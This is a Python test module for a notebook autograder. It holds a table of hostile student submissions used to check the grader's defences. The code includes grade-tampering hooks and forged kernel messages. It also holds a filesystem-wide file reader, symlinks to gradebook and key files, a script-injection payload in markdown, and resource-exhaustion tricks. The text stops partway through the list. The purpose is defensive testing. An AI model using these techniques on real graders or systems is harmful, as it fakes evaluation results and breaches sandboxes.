"""What people try who want points or want to harm: submissions of problem set 1, with the points that each deserves.

`python tests/grading/attacks.py` writes the notebooks of attacks/ from this table and the released notebook.
`python tests/grading/attacks.py --table [NAME ...]` grades attacks, with stock nbgrader where that is safe and with
ours, and prints the points of both beside those deserved.

An attack looks for what it wants wherever it may be. When it succeeds it calls `won`, which makes its answer right:
more points than deserved mean that it got through.
"""

import argparse
import contextlib
import copy
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from nbgrader.api import Gradebook, MissingEntry

from rnn2rag import catalog
from rnn2rag.errors import UserError
from rnn2rag.execute import sandbox
from rnn2rag.grading import intake, worker
from rnn2rag.grading.results import Result

ROOT = Path(__file__).parents[2]
SET = "01-recurrent-networks"
NAME = "recurrent-networks.ipynb"
COURSE = Path(__file__).with_name("course")
RELEASED = COURSE / "exercises" / SET / NAME
FOLDER = Path(__file__).with_name("attacks")
ANSWER, TEST, HIDDEN, PROSE = "leaky-cell", "leaky-cell-test", "leaky-cell-hidden", "leak-and-error"
CELL_TIMEOUT = 8.0  # seconds, in place of the two minutes of a real run
TRACE = "rnn2rag-attack"  # in the name of every file that an attack leaves
PROCESS = "attack-leftover"  # the name of every process that an attack leaves
MARK = "LEAKED"  # stands before every hidden value that an attack shows

SCRIPT = "<script>"  # before `steal()`, where an attack wants to run in the browser of whoever looks

# Answers. Both wrong ones earn 1 point of 6: the shape is right in the first test.
ZEROS = """
def leaky_states(*arguments, **named):
    return torch.zeros(1, 2, 2)
"""
DIFFERENTIABLE_ZEROS = """
def leaky_states(inputs, lengths, weight_input, weight_hidden, bias, leak):
    return 0 * (inputs @ weight_input.T @ weight_hidden.T + bias)
"""
DURING = """
def leaky_states(*arguments, **named):
    attack()
    return answer(*arguments, **named)


def answer(*arguments, **named):
    return torch.zeros(1, 2, 2)
"""
RIGHT = """
def leaky_states(inputs, lengths, weight_input, weight_hidden, bias, leak):
    state = inputs.new_zeros(inputs.shape[0], len(bias))
    states = []
    for t in range(inputs.shape[1]):
        new = torch.tanh(inputs[:, t] @ weight_input.T + state @ weight_hidden.T + bias)
        state = torch.where((t < lengths)[:, None], (1 - leak) * state + leak * new, state)
        states.append(state)
    return torch.stack(states, dim=1)
"""
VISIBLE = """
def leaky_states(inputs, *rest, **named):
    if inputs.shape == (1, 2, 1):
        return torch.tensor([[[0.1904, 0.1155], [0.1716, 0.0866]]])
    return torch.tensor([[[0.1], [0.1], [0.1]], [[0.1], [0.2], [0.3]]])
"""

# Functions that attacks share; each stands in the notebooks whose code uses it.
HELPERS = {
    "won(": f"""{RIGHT.replace("leaky_states", "right_states")}

def won(how):
    global answer, leaky_states
    print("won:", how)
    answer = leaky_states = right_states
""",
    "texts(": '''
import os
import pathlib
import sys
import time


def texts(seconds=3, largest=4_000_000):
    """The path and the content of every file that can be reached, the likely places first."""
    import rnn2rag

    end = time.monotonic() + seconds
    known = [pathlib.Path.cwd(), pathlib.Path(rnn2rag.__file__), pathlib.Path.home(), pathlib.Path(sys.prefix)]
    known += [pathlib.Path(value) for value in [*os.environ.values(), *sys.path] if value.startswith("/")]
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        for link in ("cwd", "root"):
            try:
                known.append(pathlib.Path(os.readlink(process / link)))
                known.append(process / link)
            except OSError:
                pass
    tops = [parent for place in known for parent in (place, *list(place.parents)[:4])]
    seen = set()
    for top in tops:
        for folder, folders, files in os.walk(top):
            inside = not (folder in seen or folder.count("/") - str(top).count("/") > 5)
            seen.add(folder)
            skipped = {"proc", "sys", "site-packages", "node_modules", "usr", "lib"}
            folders[:] = [name for name in folders if inside and name not in skipped]
            for name in files if inside else ():
                path = os.path.join(folder, name)
                if time.monotonic() > end:
                    return
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < largest:
                        with open(path, "rb") as file:
                            yield path, file.read()
                except OSError:
                    pass
''',
    "processes(": '''
import os


def processes():
    """The numbers of all other processes that can be seen."""
    return [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
''',
    "send(": '''
def send(kind, content, parent=None):
    """A message of our own making, through the kernel's own socket."""
    kernel = get_ipython().kernel
    parent = parent or kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kind.encode())
''',
    "send_bytes(": '''
def send_bytes(*parts):
    """Bytes of our own making, through the kernel's own socket."""
    get_ipython().kernel.iopub_socket.send_multipart(list(parts))
''',
    "signed(": '''
import json


def signed(kind, content, parent=None):
    """A message of our own making, packed by ourselves and signed with the kernel's key."""
    kernel = get_ipython().kernel
    session = kernel.session
    header = session.msg_header(kind)
    packed = [json.dumps(part, default=str).encode() for part in (header, parent or kernel.get_parent("shell"), {})]
    packed.append(content if isinstance(content, bytes) else json.dumps(content).encode())
    return [kind.encode(), b"<IDS|MSG>", session.sign(packed), *packed]
''',
    "cells_socket(": '''
import os
import socket
import struct


def cells_socket():
    """The socket over which a kernel of the sandbox is given its cells (in a plain kernel some other)."""
    for number in range(3, 100):
        try:
            found = socket.socket(fileno=os.dup(number))
            if (found.family, found.type) == (socket.AF_UNIX, socket.SOCK_STREAM):
                return found
        except OSError:
            pass
''',
    "packet(": '''
import json
import struct


def packet(data):
    """Bytes, or data as JSON, with their size before them."""
    data = data if isinstance(data, bytes) else json.dumps(data).encode()
    return struct.pack(">I", len(data)) + data
''',
    "full_marks(": '''
def full_marks():
    """The answer of a cell that shows full marks."""
    rung = {"name": "all", "possible": 3.0, "points": 3.0, "message": "", "hidden": False}
    score = {"problem": "leaky-cell", "seed": 0, "rungs": [rung], "faults": [], "points": 3.0, "possible": 3.0}
    data = {"text/plain": "3.0", checks.SCORE_MIME: score}
    result = {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 9}
    return {"outputs": [result], "count": 9}
''',
    "share_of(": '''
def share_of(result):
    """A report of full marks."""
    rung = {"name": "all", "possible": 3.0, "points": 3.0, "message": "", "hidden": False}
    score = {"problem": "leaky-cell", "seed": 0, "rungs": [rung], "faults": [], "points": 3.0, "possible": 3.0}
    return {"text/plain": result, checks.SCORE_MIME: score}
''',
}


def first_of_all(code):
    """The right answer with code before it in the function."""
    head, start, rest = RIGHT.partition("    state =")
    return head + "".join(f"    {line}\n" for line in code.splitlines()) + start + rest


@dataclass(frozen=True)
class Attack:
    """One submission that attacks.

    tries: what, in one line. deserves: the points of its answer, of 6. code: stands under the answer, in the same cell.
    edit: changes the notebook (as plain data). place: hands in something else than a plain notebook, given the folder
    submitted/STUDENT/SET, which does not exist yet, and the notebook; such an attack has no file in attacks/. refused:
    a word of the reason, where it deserves to be refused. bare: what it does without a sandbox: it "fails", it "wins",
    or it "harms" the machine. spoils: it may break its own run, and earn less than it deserves.
    """

    name: str
    tries: str
    deserves: int = 1
    code: str = ""
    answer: str = ZEROS
    edit: Callable[[dict], None] | None = None
    place: Callable[[Path, dict], None] | None = None
    refused: str = ""
    bare: str = "fails"
    spoils: bool = False


# Changes of a notebook


def cell(nb: dict, grade_id: str) -> dict:
    """The cell with a grade id."""
    return next(cell for cell in nb["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def tests(nb: dict) -> list[dict]:
    """The two test cells."""
    return [cell(nb, TEST), cell(nb, HIDDEN)]


def in_tests(**fields):
    """Other fields in both test cells."""

    def edit(nb):
        for test in tests(nb):
            test.update(copy.deepcopy(fields))

    return edit


def in_tests_metadata(**fields):
    """Other metadata in both test cells."""

    def edit(nb):
        for test in tests(nb):
            test["metadata"].update(copy.deepcopy(fields))

    return edit


def in_grader_data(**fields):
    """Other nbgrader metadata in both test cells."""

    def edit(nb):
        for test in tests(nb):
            test["metadata"]["nbgrader"].update(fields)

    return edit


def code_cell(source, ident, **metadata):
    """A cell of the student's own."""
    data = {"cell_type": "code", "id": ident, "metadata": metadata, "outputs": [], "execution_count": None}
    return {**data, "source": source}


def tests_deleted(nb):
    for test in tests(nb):
        nb["cells"].remove(test)


def tests_first(nb):
    first = tests(nb)
    nb["cells"] = [*nb["cells"][:2], *first, *[c for c in nb["cells"][2:] if c not in first]]


def tests_copied(nb):
    for number, test in enumerate(tests(nb)):
        more = copy.deepcopy(test)
        more.update(id=f"copy-{number}", source="6.0")
        more["metadata"]["nbgrader"]["points"] = 100
        nb["cells"].insert(4, more)


def answer_copied(nb):
    more = copy.deepcopy(cell(nb, ANSWER))
    more.update(id="copy", source="checks.Problem.score = lambda self: 3.0")
    nb["cells"].append(more)


def ids_swapped(nb):
    first, second = (test["metadata"]["nbgrader"] for test in tests(nb))
    first["grade_id"], second["grade_id"] = HIDDEN, TEST


def new_test(nb):
    data = {**cell(nb, TEST)["metadata"]["nbgrader"], "grade_id": "leaky-cell-bonus", "points": 100}
    nb["cells"].append(code_cell("100", "bonus", nbgrader=data))


def tests_untouched_by_nbgrader(nb):
    for test in tests(nb):
        del test["metadata"]["nbgrader"]
        test["source"] = "3.0"


def with_outputs(nb):
    data = {"text/plain": "3.0"}
    result = {"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}
    for test in tests(nb):
        test.update(outputs=[result], execution_count=1)
        test["metadata"]["tags"] = ["skip-execution"]


def answer_is_prose(nb):
    answer = cell(nb, ANSWER)
    answer["cell_type"] = "markdown"
    answer.pop("outputs"), answer.pop("execution_count")


def prose_is_graded(nb):
    data = cell(nb, PROSE)["metadata"]["nbgrader"]
    data.update(solution=False, points=100)


def prose_is_code(nb):
    prose = cell(nb, PROSE)
    prose.update(cell_type="code", source="2.0", outputs=[], execution_count=None)
    prose["metadata"]["nbgrader"].update(cell_type="code", solution=False, points=100)


def tests_are(kind):
    """The test cells as prose, or raw."""

    def edit(nb):
        for test in tests(nb):
            test["cell_type"] = kind
            test.pop("outputs"), test.pop("execution_count")

    return edit


def metadata(**fields):
    """Other metadata of the notebook."""
    return lambda nb: nb["metadata"].update(copy.deepcopy(fields))


def cells_of_prose(nb):
    pictures = {"a.png": {"image/png": "AAAA"}, "../../../../tmp/rnn2rag-attack.png": {"image/png": "AAAA"}}
    shown = f"{SCRIPT}steal()</script> ![a](attachment:a.png) <img src=x onerror=steal()>"
    prose = {"cell_type": "markdown", "id": "prose", "metadata": {}, "attachments": pictures, "source": shown}
    nb["cells"].append(prose)


def garbled_metadata(nb):
    cell(nb, ANSWER)["metadata"]["nbgrader"]["points"] = {"a": [1]}
    nb["cells"].append(code_cell("1", "garbled", nbgrader={"grade": True, "grade_id": ["x"], "points": "many"}))


# Other things than a notebook, handed in


def write(folder, data):
    folder.mkdir(parents=True)
    (folder / NAME).write_bytes(data)


def data_of(nb):
    return json.dumps(nb).encode()


def sized(megabytes):
    """A notebook with a very long line of prose."""

    def place(folder, nb):
        nb["cells"].append({"cell_type": "markdown", "id": "long", "metadata": {}, "source": "x" * megabytes * 10**6})
        write(folder, data_of(nb))

    return place


def nested(depth):
    """A notebook with lists in lists in its metadata."""

    def place(folder, nb):
        nb["metadata"]["deep"] = "DEEP"
        write(folder, data_of(nb).replace(b'"DEEP"', b"[" * depth + b"]" * depth))

    return place


def with_source(source):
    """A notebook with another cell of the student's own, after the answer."""

    def place(folder, nb):
        position = nb["cells"].index(cell(nb, ANSWER)) + 1
        nb["cells"].insert(position, code_cell(source, "own"))
        write(folder, data_of(nb))

    return place


def many_cells(number):
    """A notebook of empty cells."""

    def place(folder, nb):
        nb["cells"] += [code_cell("", f"empty-{i}") for i in range(number)]
        write(folder, data_of(nb))

    return place


def bytes_in(change):
    """A file that holds what a function makes of the notebook's bytes."""
    return lambda folder, nb: write(folder, change(data_of(nb)))


def other(**fields):
    """A notebook with other fields at its top."""
    return lambda folder, nb: write(folder, data_of({**nb, **fields}))


def beside(**files):
    """Files beside the notebook; `__` in a name stands for a dot."""

    def place(folder, nb):
        write(folder, data_of(nb))
        for name, text in files.items():
            (folder / name.replace("__", ".")).write_text(text, encoding="utf8")

    return place


def links_beside(folder, nb):
    write(folder, data_of(nb))
    for name in ("solutions", "submitted", "gradebook.db", "release.key"):
        (folder / name).symlink_to(Path("../../..", name))


def notebook_is_link(folder, nb):
    folder.mkdir(parents=True)
    (folder / NAME).symlink_to(Path("../../../solutions", SET, NAME))


def folder_is_link(folder, nb):
    folder.parent.mkdir(parents=True)
    folder.symlink_to(Path("../s000", SET), target_is_directory=True)


def notebook_is_pipe(folder, nb):
    folder.mkdir(parents=True)
    os.mkfifo(folder / NAME)


def notebook_is_folder(folder, nb):
    write(folder / NAME, data_of(nb))


SHADOW = f"""
import pathlib, tempfile
pathlib.Path(tempfile.gettempdir(), "{TRACE}-shadow").touch()
raise SystemExit
"""


# The table. What reports full marks, or makes the tests agree

POINTS = [
    Attack("wrong-answer", "nothing: a wrong answer of the right shape"),
    Attack("visible-answers", "the answer recognizes the visible inputs", 3, answer=VISIBLE),
    Attack(
        "torch-agrees",
        "torch's comparisons are replaced",
        code="torch.allclose = lambda *a, **k: True\ntorch.isclose = torch.eq = torch.allclose",
    ),
    Attack(
        "tensors-agree",
        "the comparison operators of tensors are replaced",
        code="""
def agrees(self, other):
    return torch.ones(self.shape, dtype=torch.bool)


for name in ("__eq__", "__ne__", "__lt__", "__le__", "__gt__", "__ge__", "isfinite", "all", "any"):
    setattr(torch.Tensor, name, agrees if name.startswith("__") else lambda self, *a: torch.tensor(True))
""",
    ),
    Attack(
        "builtins-agree",
        "builtins that tests use are replaced",
        code="""
import builtins

class Never(Exception):
    def __init_subclass__(cls):
        pass


builtins.AssertionError = Never
builtins.any = lambda things: False
builtins.all = lambda things: True
builtins.float = type("float", (float,), {"__new__": lambda cls, value=0: 3.0})
builtins.round = lambda *a: 3.0
""",
        spoils=True,
    ),
    Attack(
        "json-and-base64-replaced",
        "the libraries that pack the answer are replaced",
        code="""
import base64
import hashlib
import json

base64.b64encode = lambda data, *a: b"AAAAAAAAAAAAAAAAAAAAAA=="
hashlib.sha256 = hashlib.md5
json.dumps = lambda *a, **k: '{"two_steps": {"ok": true}}'
""",
        spoils=True,
    ),
    Attack(
        "checks-replaced",
        "the checks agree with everything",
        code="checks.close = checks.shape = checks.true = checks.equal = lambda *a, **k: None",
    ),
    Attack(
        "score-replaced",
        "the score is a constant",
        0,
        code="checks.Problem.score = checks.Problem.send = lambda self: 6.0",
    ),
    Attack("verdicts-dropped", "no verdict is registered", code="checks.Problem.verdict = lambda *a, **k: lambda f: f"),
    Attack(
        "problem-replaced",
        "the class of the tests is another",
        0,
        code="""
class Mine:
    def __init__(self, *a, **k):
        pass

    def probe(self, function):
        return function

    def verdict(self, *a, **k):
        return lambda function: function

    def score(self):
        return 3.0

    send = score


checks.Problem = Mine
""",
    ),
    Attack(
        "score-nan",
        "the score is NaN",
        0,
        code='checks.Problem.score = checks.Problem.send = lambda self: float("nan")',
    ),
    Attack(
        "score-negative",
        "the score is negative",
        0,
        code="checks.Problem.score = checks.Problem.send = lambda self: -1",
    ),
    Attack(
        "score-above",
        "the score is above the maximum",
        0,
        code="checks.Problem.score = checks.Problem.send = lambda self: 10.0**9",
    ),
    Attack(
        "score-no-number",
        "the score shows itself as another number each time",
        0,
        code="""
class Shown:
    calls = 0

    def __repr__(self):
        Shown.calls += 1
        return str(Shown.calls * 3)

    def __float__(self):
        return 3.0


checks.Problem.score = checks.Problem.send = lambda self: Shown()
""",
    ),
    Attack(
        "asserts-removed",
        "an AST transformer takes out assertions and raises",
        code="""
import ast


class Remove(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Raise(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Remove())
""",
    ),
    Attack(
        "constants-changed",
        "an AST transformer makes every call of the score a number",
        0,
        code="""
import ast


class Full(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.copy_location(ast.Expr(ast.copy_location(ast.Constant(3.0), node)), node)


get_ipython().ast_transformers.append(Full())
""",
    ),
    Attack(
        "input-transformed",
        "an input transformer puts a number in place of each cell",
        0,
        code='get_ipython().input_transformers_cleanup.append(lambda lines: ["3.0\\n"])',
    ),
    Attack(
        "compiler-replaced",
        "the shell compiles another source",
        0,
        code="""
compiler = type(get_ipython().compile)
compiler.ast_parse = lambda self, source, *a, **k: compile("3.0", "x", "exec", 1024)
""",
        spoils=True,
    ),
    Attack(
        "exceptions-handled",
        "an exception handler and a hook swallow every error",
        0,
        answer="\ndef leaky_states(*arguments, **named):\n    raise KeyboardInterrupt\n",
        code="""
import sys

sys.excepthook = lambda *a: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None
""",
    ),
    Attack(
        "run-cell-replaced",
        "the shell runs another cell",
        0,
        code="""
shell = get_ipython()
run_cell, run_cell_async = shell.run_cell, shell.run_cell_async
shell.run_cell = lambda source, *a, **k: run_cell("3.0", *a, **k)
shell.run_cell_async = lambda source, *a, **k: run_cell_async("3.0", *a, **{**k, "transformed_cell": "3.0"})
""",
    ),
    Attack(
        "do-execute-replaced",
        "the kernel answers every request with full marks",
        0,
        code="""
kernel = get_ipython().kernel


async def do_execute(*a, **k):
    send("execute_result", {"data": share_of("3.0"), "metadata": {}, "execution_count": 9})
    return {"status": "ok", "execution_count": 9, "payload": [], "user_expressions": {}}


kernel.do_execute = do_execute
""",
    ),
    Attack(
        "get-ipython-replaced",
        "`get_ipython` and `display` are others",
        code="""
import builtins

import IPython
import IPython.display

builtins.get_ipython = IPython.get_ipython = get_ipython = lambda: None
IPython.display.display = lambda *a, **k: print(3.0)
""",
        spoils=True,
    ),
    Attack(
        "display-hook-replaced",
        "the display hook shows full marks for every result",
        code="""
hook = type(get_ipython().displayhook)
hook.compute_format_data = lambda self, result: (share_of("3.0"), {})
hook.__call__ = lambda self, result=None: self.write_format_data(share_of("3.0"))
""",
        spoils=True,
    ),
    Attack(
        "formatters-replaced",
        "every value is shown as full marks",
        code="""
formatter = get_ipython().display_formatter
formatter.format = lambda value, *a, **k: (share_of("3.0"), {})
""",
        spoils=True,
    ),
    Attack(
        "verdicts-emptied",
        "the verdicts of the problem on the stack do nothing",
        answer=DURING,
        code="""
import gc
import sys


def attack():
    frame = sys._getframe()
    found = [thing for thing in gc.get_objects() if type(thing).__name__ == "Problem"]
    while frame:
        found += [value for value in frame.f_locals.values() if type(value).__name__ == "Problem"]
        frame = frame.f_back
    for problem in found:
        problem._verdicts[:] = [(*verdict[:3], lambda value: None) for verdict in problem._verdicts]
""",
    ),
    Attack(
        "traced",
        "a trace function copies the expected values over the answer's",
        answer=DIFFERENTIABLE_ZEROS,
        code="""
import sys


def trace(frame, event, argument):
    if frame.f_code.co_name == "close":
        got, want = frame.f_locals.get("got"), frame.f_locals.get("want")
        if got is not None and want is not None and got.shape == want.shape:
            got.copy_(want)
    return trace


sys.settrace(trace)
""",
    ),
    Attack(
        "profiled",
        "a profile function copies the expected values over the answer's",
        answer=DIFFERENTIABLE_ZEROS,
        code="""
import sys


def profile(frame, event, argument):
    if frame.f_code.co_name == "close":
        got, want = frame.f_locals.get("got"), frame.f_locals.get("want")
        if got is not None and want is not None and got.shape == want.shape:
            got.copy_(want)


sys.setprofile(profile)
""",
    ),
    Attack(
        "verdict-in-memory",
        "the hidden verdict is sought among all objects, the history and the frames of all threads",
        answer=DURING,
        code="""
import gc
import sys

WANTED = "equals_the_" + "formula"


def attack():
    frames = [frame for frame in sys._current_frames().values()]
    things = [*In, *globals(), *get_ipython().user_ns]
    while frames:
        frame = frames.pop()
        things += [*frame.f_locals, *frame.f_globals, *frame.f_code.co_names, *frame.f_code.co_consts]
        frames += [frame.f_back] if frame.f_back else []
    things += [getattr(thing, "__name__", "") for thing in gc.get_objects() if type(thing).__name__ == "function"]
    things += [text for thing in gc.get_objects() if type(thing) in (list, dict) for text in list(thing)]
    if any(WANTED in thing for thing in things if type(thing) is str):
        won("the hidden verdict is in this process")
""",
    ),
    Attack(
        "hidden-inputs-used",
        "the hidden probe is read from the history and its inputs are made beforehand",
        answer=DURING,
        code="""
def attack():
    probes = [text for text in In if "make_" + "batch" in text]
    if probes and "make_batch" in globals():
        print(make_batch(globals().get("__seed__", 0))["leak"])
""",
    ),
]

# What forges messages

MESSAGES = {
    "result": ("execute_result", {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 9}),
    "result-above": ("execute_result", {"data": {"text/plain": "1e9"}, "metadata": {}, "execution_count": 9}),
    "idle": ("status", {"execution_state": "idle"}),
    "no-content": ("display_data", {}),
    "no-state": ("status", {}),
    "no-name": ("error", {}),
    "stream-of-numbers": ("stream", {"name": "stdout", "text": [1, {"a": 2}]}),
    "stream-without-name": ("stream", {"name": {"stdout": 1}, "text": "x"}),
    "traceback-of-numbers": ("error", {"ename": 1, "evalue": [2], "traceback": 3}),
    "metadata-of-text": ("display_data", {"data": {"text/plain": "x"}, "metadata": "text"}),
    "data-of-text": ("display_data", {"data": "application/vnd.rnn2rag.values+json", "metadata": {}}),
    "data-of-numbers": ("display_data", {"data": {"text/plain": 3, "image/png": {"a": 1}}, "metadata": {}}),
    "count-of-text": ("execute_input", {"code": "x", "execution_count": "many"}),
    "unknown-kind": ("mystery", {"text": "x"}),
    "clear": ("clear_output", {"wait": True}),
    "clear-without-wait": ("clear_output", {}),
    "transient-of-text": ("update_display_data", {"data": {}, "metadata": {}, "transient": "text"}),
    "comm": ("comm_open", {"comm_id": 3, "target_name": "jupyter.widget", "data": {"state": [1]}}),
    "comm-buffers": (
        "comm_open",
        {"comm_id": "a", "target_name": "jupyter.widget", "data": {"state": {}, "buffer_paths": [["a"], 3]}},
    ),
    "comm-output": (
        "comm_open",
        {
            "comm_id": "b",
            "target_name": "jupyter.widget",
            "data": {
                "state": {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "msg_id": "x"}
            },
        },
    ),
    "mime-names": ("display_data", {"data": {"../../x": "x", "text/html": [[1]], "": "x"}, "metadata": {"": 1}}),
    "comm-lost": ("comm_msg", {"data": {"method": "update"}}),
}


def forged(name, kind, content):
    """An attack by one message before each cell."""
    return Attack(
        f"message-{name}",
        f"a message of the kernel is forged: {kind}, {name.replace('-', ' ')}",
        code=f"""
def attack(*nothing):
    send({kind!r}, {content!r})


get_ipython().events.register("pre_run_cell", attack)
""",
        spoils=True,
    )


FORGED = [
    Attack(
        "report-forged",
        "a report of full marks is shown before each cell",
        code="""
from IPython.display import display

get_ipython().events.register("pre_run_cell", lambda *a: display(share_of("3.0"), raw=True))
""",
    ),
    Attack(
        "values-sent-twice",
        "the values of the visible answers are sent after those of the probes",
        0,
        code="""
from IPython.display import display

right = {"two_steps": {"ok": [[[0.1904, 0.1155], [0.1716, 0.0866]]]}}
get_ipython().events.register("post_run_cell", lambda *a: display({checks.VALUES_MIME: right}, raw=True))
""",
        spoils=True,
    ),
    Attack(
        "values-cleared-and-sent",
        "what the probes sent is cleared, and wrong values of the right shape are sent",
        code="""
from IPython.display import clear_output, display

mine = {"two_steps": {"ok": checks.to_plain(torch.zeros(1, 2, 2))}}


def attack(*nothing):
    clear_output()
    display({checks.VALUES_MIME: mine}, raw=True)


get_ipython().events.register("post_run_cell", attack)
""",
    ),
    Attack(
        "reports-for-later-cells",
        "a thread sends full marks with the parent headers of cells to come",
        code="""
import threading
import time

kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
head, _, count = parent["header"]["msg_id"].rpartition("_")


def attack():
    while True:
        for number in range(int(count) + 1, int(count) + 12):
            later = {**parent, "header": {**parent["header"], "msg_id": f"{head}_{number}"}}
            send("execute_result", {"data": share_of("3.0"), "metadata": {}, "execution_count": 9}, later)
        time.sleep(0.02)


threading.Thread(target=attack, daemon=True).start()
""",
        spoils=True,
    ),
    Attack(
        "idle-for-later-cells",
        "a thread ends the cells to come before they send their values",
        code="""
import threading
import time

parent = get_ipython().kernel.get_parent("shell")
head, _, count = parent["header"]["msg_id"].rpartition("_")


def attack():
    while True:
        for number in range(int(count) + 1, int(count) + 12):
            later = {**parent, "header": {**parent["header"], "msg_id": f"{head}_{number}"}}
            send("status", {"execution_state": "idle"}, later)
        time.sleep(0.02)


threading.Thread(target=attack, daemon=True).start()
""",
        spoils=True,
    ),
    Attack(
        "reply-forged",
        "the reply to each cell is sent before the cell runs",
        code="""
def attack(*nothing):
    kernel = get_ipython().kernel
    parent = kernel.get_parent("shell")
    ident = kernel._parent_ident["shell"] if isinstance(kernel._parent_ident, dict) else kernel.get_parent_ident()
    content = {"status": "ok", "execution_count": 9, "payload": [], "user_expressions": {}}
    kernel.session.send(kernel.shell_stream, "execute_reply", content, parent, ident=ident)


get_ipython().events.register("pre_run_cell", attack)
""",
        spoils=True,
    ),
    Attack(
        "answers-in-advance",
        "answers with full marks for all cells to come are sent with the first",
        code="""
cells = cells_socket()
for _ in range(30):
    cells.sendall(packet(full_marks()))
""",
        spoils=True,
    ),
    Attack(
        "cells-stolen",
        "a thread takes the cells to come from the kernel's socket and answers each with full marks",
        code="""
import threading

cells = cells_socket()


def attack():
    cells.setblocking(True)
    while size := cells.recv(4):
        print(cells.recv(struct.unpack(">I", size)[0], socket.MSG_WAITALL))
        cells.sendall(packet(full_marks()))


threading.Thread(target=attack, daemon=True).start()
""",
        spoils=True,
    ),
    Attack(
        "answers-replaced",
        "the kernel gives full marks as the answer of each cell",
        code="""
async def run(source):
    return full_marks()


get_ipython().kernel._run = run
""",
        spoils=True,
    ),
    Attack(
        "outputs-replaced",
        "the kernel's outputs are full marks, whatever it shows",
        code="""
get_ipython().kernel.session.taken = lambda: full_marks()["outputs"]
""",
        spoils=True,
    ),
    *(
        Attack(
            f"answer-{name}",
            f"the kernel is made to send {what}",
            code=f"""
cells = cells_socket()
cells.settimeout(5)
try:
    {code}
except OSError as error:
    print(error)
""",
            spoils=True,
        )
        for name, what, code in (
            ("endless", "the size of four gigabytes, and many bytes", 'cells.sendall(b"\\xff" * (60 << 20))'),
            ("cut", "half an answer", "cells.sendall(packet(full_marks())[:50])"),
            ("of-noise", "bytes that are no JSON", "cells.sendall(packet(os.urandom(500)))"),
            ("deep", "an answer of a hundred thousand brackets", 'cells.sendall(packet(b"[" * 100_000))'),
            (
                "of-null",
                "null, an empty dict, a list and a number",
                "[cells.sendall(packet(x)) for x in (None, {}, [], 3)]",
            ),
            ("of-half-letters", "half of an emoji", 'cells.sendall(packet({"outputs": [], "count": "\\ud83d"}))'),
            (
                "without-end",
                "a count that is no number",
                'cells.sendall(packet({"outputs": [], "count": float("nan")}))',
            ),
            (
                "of-strange-outputs",
                "outputs of a kind that is none",
                'cells.sendall(packet({"outputs": [{"output_type": "pwn", "data": 1}], "count": 1}))',
            ),
            (
                "of-outputs-with-more",
                "an output with a field too much",
                'cells.sendall(packet({"outputs": [full_marks()["outputs"][0] | {"points": 6}], "count": 1}))',
            ),
            (
                "of-outputs-with-less",
                "an output without text",
                'cells.sendall(packet({"outputs": [{"output_type": "stream", "name": "stdout"}], "count": 1}))',
            ),
            (
                "of-nested-types",
                "an output whose data are a list, and whose traceback holds numbers",
                'cells.sendall(packet({"outputs": [{"output_type": "error", "ename": "E", "evalue": "", '
                '"traceback": [1, {}]}], "count": 1}))',
            ),
            (
                "of-many-outputs",
                "an answer of a hundred thousand outputs",
                'cells.sendall(packet({"outputs": [{}] * 100_000}))',
            ),
        )
    ),
    Attack(
        "socket-closed",
        "the kernel's socket is closed, and the kernel lives on",
        code="""
import time

os = __import__("os")
for number in range(3, 100):
    try:
        os.close(number)
    except OSError:
        pass
time.sleep(100)
""",
        spoils=True,
    ),
    Attack(
        "socket-kept",
        "a child keeps the kernel's socket open when the kernel ends",
        code="""
import os
import time

if os.fork() == 0:
    time.sleep(100)
os._exit(0)
""",
        spoils=True,
    ),
    Attack(
        "socket-of-a-child",
        "a child answers when the kernel has ended",
        code="""
import os
import time

cells = cells_socket()
if os.fork() == 0:
    while True:
        cells.sendall(packet(full_marks()))
        time.sleep(0.1)
os._exit(0)
""",
        spoils=True,
    ),
    Attack(
        "descriptor-flooded",
        "a program writes without end to the cell's output",
        code="""
import os

try:
    for _ in range(1000):
        os.write(1, b"x" * (1 << 20))
        os.write(2, b"x" * (1 << 20))
except OSError as error:
    print(error)
""",
        spoils=True,
    ),
    Attack(
        "outputs-captured",
        "a widget captures what the test cells show",
        code="""
import ipywidgets

taken = ipywidgets.Output()
display(taken)
taken.__enter__()
""",
        spoils=True,
    ),
    Attack(
        "message-of-many-parts",
        "one message has a million parts",
        0,
        code='checks.Problem.collect = lambda self: {f"{i}": {"a": i} for i in range(1_000_000)}',
        bare="harms",
    ),
    Attack(
        "outputs-updated",
        "the outputs of earlier cells become full marks",
        answer=DURING,
        code="""
from IPython.display import display

shown = display("nothing yet", display_id="shown")


def attack():
    shown.update(share_of("3.0"), raw=True)
""",
    ),
    Attack(
        "message-bytes",
        "what the socket sends is no message",
        code="""
def attack(*nothing):
    send_bytes(b"x")
    send_bytes(b"stream", b"<IDS|MSG>", b"no signature", b"{}", b"{}", b"{}", b"{}")
    send_bytes(b"stream", b"<IDS|MSG>", b"", b"\\xff", b"", b"[", b"")
    send_bytes(b"", b"", b"")


get_ipython().events.register("pre_run_cell", attack)
""",
        spoils=True,
    ),
    *(
        Attack(
            f"message-{name}",
            f"a signed message holds {what}",
            code=f"""
def attack(*nothing):
    send_bytes(*signed("display_data", ({content!r} % ({part})).encode()))


get_ipython().events.register("pre_run_cell", attack)
""",
            spoils=True,
        )
        for name, what, content, part in (
            ("nested-200", "lists 200 deep", '{"data": {"a": %s}, "metadata": {}}', '"[" * 200 + "]" * 200'),
            ("nested-500", "lists 500 deep", '{"data": {"a": %s}, "metadata": {}}', '"[" * 500 + "]" * 500'),
